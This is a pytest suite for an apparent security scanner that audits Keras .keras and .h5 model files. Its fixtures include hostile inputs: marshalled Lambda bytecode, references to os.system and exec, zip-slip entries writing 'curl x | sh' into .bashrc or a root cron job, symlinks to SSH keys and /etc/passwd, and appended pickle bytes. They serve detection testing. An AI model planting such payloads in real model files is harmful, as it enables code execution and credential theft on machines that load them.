"""Keras: .keras zips and legacy .h5 models built by hand / h5py; configs reviewed as data."""

from __future__ import annotations

import base64
import json
import marshal
import stat
import zipfile
from pathlib import Path

import h5py
import numpy as np
import pytest

from tests.scan_helpers import rule_ids, scan_files
from tests.zip_builders import ZMember, build_zip

KERAS_SAVED = Path(__file__).parent / "data" / "keras"


def _obj(module, class_name, config, registered=None) -> dict:
    return {"module": module, "class_name": class_name, "config": config,
            "registered_name": registered}


def _sequential(*layers) -> dict:
    dense = _obj("keras.layers", "Dense", {
        "units": 2, "activation": "relu",
        "kernel_initializer": _obj("keras.initializers", "GlorotUniform", {"seed": None}),
    })
    inp = _obj("keras.layers", "InputLayer", {"batch_shape": [None, 4], "name": "in"})
    return {**_obj("keras", "Sequential", {"name": "seq", "layers": [inp, dense, *layers]}),
            "compile_config": {"loss": _obj("builtins", "function", "mean_squared_error",
                                            "function")}}


def _weights_h5(path: Path) -> None:
    with h5py.File(path, "w") as f:
        f.create_group("layers/dense/vars").create_dataset("0", data=np.ones((4, 2)))


def _keras_file(path: Path, config, *, weights: bool = True, extra: dict | None = None) -> Path:
    h5 = path.parent / "w.tmp.h5"
    _weights_h5(h5)
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("metadata.json", json.dumps({"keras_version": "3.9.0",
                                                 "date_saved": "2026-01-01@00:00:00"}))
        if config is not None:
            zf.writestr("config.json", config if isinstance(config, str) else json.dumps(config))
        if weights:
            zf.write(h5, "model.weights.h5")
        for name, data in (extra or {}).items():
            zf.writestr(name, data)
    h5.unlink()
    return path


def _lambda_code(body: str = "lambda x: x") -> str:
    code = compile(body, "<lambda>", "eval").co_consts[0]
    return base64.b64encode(marshal.dumps(code)).decode()


def test_clean_keras_file_passes(tmp_path, run_cli):
    _keras_file(tmp_path / "model.keras", _sequential())
    report = scan_files(tmp_path)["model.keras"]
    assert report.format == "keras" and report.findings == ()
    assert report.facts["model_class"] == "Sequential"
    assert report.facts["keras_version"] == "3.9.0"
    assert "Dense" in report.facts["classes"]
    assert run_cli("scan", tmp_path).code == 0


def test_lambda_with_bytecode_is_critical(tmp_path):
    lam = _obj("keras.layers", "Lambda", {
        "name": "lam", "function": {"class_name": "__lambda__",
                                    "config": {"code": _lambda_code(), "defaults": None,
                                               "closure": None}}})
    _keras_file(tmp_path / "model.keras", _sequential(lam))
    report = scan_files(tmp_path)["model.keras"]
    assert rule_ids(report) == ["AUD-KERAS-001"]
    assert report.findings[0].severity.label == "critical"
    assert "marshalled code object" in report.findings[0].detail


def test_lambda_naming_a_function_is_high(tmp_path):
    lam = _obj("keras.layers", "Lambda", {
        "function": _obj("my_project.fns", "function", "scale", "function")})
    _keras_file(tmp_path / "model.keras", _sequential(lam))
    assert "AUD-KERAS-002" in rule_ids(scan_files(tmp_path)["model.keras"])


@pytest.mark.parametrize(("obj", "severity"), [
    (_obj("os", "function", "system", "function"), "critical"),
    (_obj("subprocess", "Popen", {"args": "id"}), "critical"),
    (_obj("some_pkg.layers", "Fancy", {}), "high"),
    (_obj("builtins", "function", "exec", "function"), "critical"),
])
def test_object_from_outside_keras_is_flagged(tmp_path, obj, severity):
    _keras_file(tmp_path / "model.keras", _sequential(obj))
    report = scan_files(tmp_path)["model.keras"]
    (finding,) = report.findings
    assert finding.rule == "AUD-KERAS-003" and finding.severity.label == severity


@pytest.mark.parametrize("obj", [
    _obj("keras.utils", "function", "get_file", "function"),
    _obj("keras.src.utils.file_utils", "get_file", {"origin": "http://x", "fname": "/tmp/y"}),
    _obj("keras.config", "function", "enable_unsafe_deserialization", "function"),
])
def test_non_modelling_keras_api_is_critical(tmp_path, obj):
    _keras_file(tmp_path / "model.keras", _sequential(obj))
    assert rule_ids(scan_files(tmp_path)["model.keras"]) == ["AUD-KERAS-004"]


def test_keras_hub_registered_classes_are_not_custom(tmp_path):
    backbone = _obj("keras_hub.src.models.gemma.gemma_backbone", "GemmaBackbone",
                    {"vocabulary_size": 8}, "keras_hub>GemmaBackbone")
    _keras_file(tmp_path / "model.keras", _sequential(backbone))
    assert scan_files(tmp_path)["model.keras"].findings == ()


def test_registered_custom_object_is_medium(tmp_path):
    _keras_file(tmp_path / "model.keras", _sequential(
        _obj(None, "MyLayer", {"units": 3}, "my_pkg>MyLayer")))
    (finding,) = scan_files(tmp_path)["model.keras"].findings
    assert finding.rule == "AUD-KERAS-005" and finding.severity.label == "medium"


@pytest.mark.parametrize(("vocabulary", "severity"), [
    ("/etc/passwd", "high"), ("../../secrets.txt", "high"), ("gs://bucket/vocab.txt", "high"),
    ("https://198.51.100.7/v.txt", "high"), ("vocab.txt", "medium"),
])
def test_vocabulary_path_is_flagged(tmp_path, vocabulary, severity):
    lookup = _obj("keras.layers", "StringLookup", {"vocabulary": vocabulary})
    _keras_file(tmp_path / "model.keras", _sequential(lookup))
    (finding,) = scan_files(tmp_path)["model.keras"].findings
    assert finding.rule == "AUD-KERAS-006" and finding.severity.label == severity
    assert vocabulary in finding.detail


def test_inline_vocabulary_list_is_fine(tmp_path):
    lookup = _obj("keras.layers", "StringLookup", {"vocabulary": ["a", "b"]})
    _keras_file(tmp_path / "model.keras", _sequential(lookup))
    assert scan_files(tmp_path)["model.keras"].findings == ()


def test_members_are_scanned_by_the_engine(tmp_path):
    _keras_file(tmp_path / "model.keras", _sequential(),
                extra={"assets/helper.py": "import os\nos.system('id')\n"})
    report = scan_files(tmp_path)["model.keras"]
    assert "AUD-CODE-002" in rule_ids(report)
    assert any(f.location.member == "assets/helper.py" for f in report.findings)


@pytest.mark.parametrize(("config", "weights"), [(None, True), ("{not json", True)])
def test_malformed_keras_is_high(tmp_path, config, weights):
    _keras_file(tmp_path / "model.keras", config, weights=weights)
    report = scan_files(tmp_path)["model.keras"]
    assert report.coverage.value == "error" and "AUD-KERAS-008" in rule_ids(report)


def test_truncated_keras_zip_is_high(tmp_path):
    path = _keras_file(tmp_path / "model.keras", _sequential())
    path.write_bytes(path.read_bytes()[:200])
    report = scan_files(tmp_path)["model.keras"]
    assert report.format == "keras" and "AUD-KERAS-008" in rule_ids(report)


def _legacy_h5(path: Path, config, libver: str = "earliest", as_str: bool = False) -> None:
    with h5py.File(path, "w", libver=libver) as f:
        text = json.dumps(config)
        f.attrs["model_config"] = text if as_str else text.encode()
        f.attrs["keras_version"] = b"2.15.0"
        f.attrs["backend"] = b"tensorflow"
        f.create_group("model_weights").create_dataset("k", data=np.zeros((4, 2)))


KERAS2_CONFIG = {"class_name": "Sequential", "config": {"name": "s", "layers": [
    {"class_name": "Dense", "config": {"units": 2, "activation": "relu"}}]}}


@pytest.mark.parametrize(("libver", "as_str"), [("earliest", False), ("latest", True)])
def test_legacy_h5_is_reviewed_and_medium(tmp_path, run_cli, libver, as_str):
    _legacy_h5(tmp_path / "model.h5", KERAS2_CONFIG, libver, as_str)
    report = scan_files(tmp_path)["model.h5"]
    assert report.format == "keras-h5"
    assert rule_ids(report) == ["AUD-KERAS-007"]
    assert report.facts["keras_version"] == "2.15.0" and report.facts["backend"] == "tensorflow"
    assert run_cli("scan", tmp_path).code == 0


def test_legacy_h5_lambda_is_critical_and_never_run(tmp_path):
    canary = tmp_path / "canary"
    code = _lambda_code(f"lambda x: open({str(canary)!r}, 'w')")
    config = json.loads(json.dumps(KERAS2_CONFIG))
    config["config"]["layers"].append({"class_name": "Lambda", "config": {
        "name": "l", "function": [code, None, None], "function_type": "lambda",
        "module": "__main__"}})
    _legacy_h5(tmp_path / "model.h5", config)
    report = scan_files(tmp_path)["model.h5"]
    assert rule_ids(report) == ["AUD-KERAS-001", "AUD-KERAS-007"]
    assert not canary.exists()


def test_weights_only_h5_is_plain_hdf5(tmp_path):
    _weights_h5(tmp_path / "weights.h5")
    report = scan_files(tmp_path)["weights.h5"]
    assert report.format == "hdf5" and report.findings == ()


def test_model_config_in_dense_attribute_storage_is_reviewed(tmp_path):
    with h5py.File(tmp_path / "model.h5", "w", libver="latest") as f:
        for i in range(20):
            f.attrs[f"a{i}"] = i
        f.attrs["model_config"] = json.dumps(KERAS2_CONFIG)
    report = scan_files(tmp_path)["model.h5"]
    assert report.format == "keras-h5" and report.coverage.value == "scanned"
    assert rule_ids(report) == ["AUD-KERAS-007"]


def test_corrupt_root_address_is_malformed(tmp_path):
    path = tmp_path / "model.h5"
    _legacy_h5(path, KERAS2_CONFIG)
    data = bytearray(path.read_bytes())
    data[64:72] = (2**40).to_bytes(8, "little")  # superblock v0: root object header address
    path.write_bytes(bytes(data))
    report = scan_files(tmp_path)["model.h5"]
    assert report.coverage.value == "error" and rule_ids(report) == ["AUD-KERAS-009"]


def test_truncated_h5_is_malformed(tmp_path):
    path = tmp_path / "model.h5"
    _legacy_h5(path, KERAS2_CONFIG)
    path.write_bytes(path.read_bytes()[:700])
    assert "AUD-KERAS-009" in rule_ids(scan_files(tmp_path)["model.h5"])


def test_files_saved_by_keras_itself(tmp_path):
    """Keras's own output (tests/data/keras, saved by Keras 3): clean, legacy .h5 and Lambda."""
    for name in ("clean.keras", "clean.h5", "lambda.keras"):
        (tmp_path / name).write_bytes((KERAS_SAVED / name).read_bytes())
    files = scan_files(tmp_path)
    assert sorted(files) == ["clean.h5", "clean.keras", "lambda.keras"]
    assert files["clean.keras"].format == "keras" and files["clean.keras"].findings == ()
    assert files["clean.keras"].facts["model_class"] == "Functional"
    assert files["clean.h5"].format == "keras-h5"
    assert rule_ids(files["clean.h5"]) == ["AUD-KERAS-007"]
    assert files["clean.h5"].facts["backend"] == "torch"
    assert rule_ids(files["lambda.keras"]) == ["AUD-KERAS-001"]
    assert all(f.coverage.value == "scanned" for f in files.values())


def _hand_keras(*extra: ZMember, config=None, **zip_args) -> bytes:
    """A .keras zip assembled field by field (tests/zip_builders), extra members last."""
    doc = json.dumps(_sequential() if config is None else config).encode()
    return build_zip([ZMember("metadata.json", b'{"keras_version": "3.9.0"}'),
                      ZMember("config.json", doc, method=8), *extra], **zip_args)


def _link(name: str, target: str) -> ZMember:
    return ZMember(name, target.encode(), mode=stat.S_IFLNK | 0o777)


ESCAPING_KERAS = {
    "dotdot": ([ZMember("../../.bashrc", b"curl x | sh\n")], "AUD-ARC-010"),
    "dotdot-in-assets": ([ZMember("assets/../../../x.py", b"pass\n")], "AUD-ARC-010"),
    "backslashes": ([ZMember("assets\\..\\..\\x.py", b"pass\n")], "AUD-ARC-010"),
    "absolute": ([ZMember("/etc/cron.d/job", b"* * * * * root id\n")], "AUD-ARC-011"),
    "drive": ([ZMember("C:\\Users\\x\\evil.bat", b"echo\n")], "AUD-ARC-011"),
    "local-name-only": ([ZMember("assets/a.txt", b"a", local_name="../../a.txt")],
                        "AUD-ARC-010"),
    "symlink-absolute": ([_link("assets/vocab.txt", "/home/user/.ssh/id_rsa")], "AUD-ARC-012"),
    "symlink-climbing": ([_link("assets/x", "../../../etc/passwd")], "AUD-ARC-012"),
    "symlink-chain": ([_link("assets/a", "b"), _link("b", "..")], "AUD-ARC-012"),
}


@pytest.mark.parametrize("case", sorted(ESCAPING_KERAS))
def test_escaping_names_and_links_inside_keras_are_high(tmp_path, case):
    extra, rule = ESCAPING_KERAS[case]
    (tmp_path / "model.keras").write_bytes(_hand_keras(*extra))
    report = scan_files(tmp_path)["model.keras"]
    found = [f for f in report.findings if f.rule == rule]
    assert found and all(f.severity.label == "high" for f in found)
    assert report.format == "keras" and report.facts["model_class"] == "Sequential"


@pytest.mark.parametrize(("zip_args", "rule"), [
    ({"trailing": b"\x80\x04\x95appended"}, "AUD-ARC-006"),
    ({"between": b"\x80\x04\x95hidden"}, "AUD-ARC-006"),
])
def test_bytes_outside_keras_members_are_high(tmp_path, zip_args, rule):
    (tmp_path / "model.keras").write_bytes(_hand_keras(**zip_args))
    assert rule in rule_ids(scan_files(tmp_path)["model.keras"])


def test_keras_header_disagreements_are_high(tmp_path):
    data = _hand_keras(ZMember("model.weights.h5", b"\x89HDF", crc=0),
                       ZMember("assets/x", b"x", local_flags=1))
    ids = rule_ids(scan_files(_write(tmp_path, data))["model.keras"])
    assert {"AUD-ARC-001", "AUD-ARC-002", "AUD-ARC-003"} <= set(ids)


def test_config_json_as_a_link_is_not_reviewed_and_fails(tmp_path):
    """unzip makes it a link to a host file; zipfile reads the target as the config."""
    data = build_zip([ZMember("metadata.json", b"{}"), _link("config.json", "/etc/passwd")])
    ids = rule_ids(scan_files(_write(tmp_path, data))["model.keras"])
    assert {"AUD-ARC-012", "AUD-KERAS-008"} <= set(ids)


def test_keras_review_still_applies_through_the_archive_reader(tmp_path):
    lam = _obj("keras.layers", "Lambda", {"function": {"class_name": "__lambda__",
                                                       "config": {"code": _lambda_code()}}})
    data = _hand_keras(ZMember("../x", b"x"), config=_sequential(lam))
    ids = rule_ids(scan_files(_write(tmp_path, data))["model.keras"])
    assert {"AUD-KERAS-001", "AUD-ARC-010"} <= set(ids)


def _write(folder: Path, data: bytes) -> Path:
    (folder / "model.keras").write_bytes(data)
    return folder
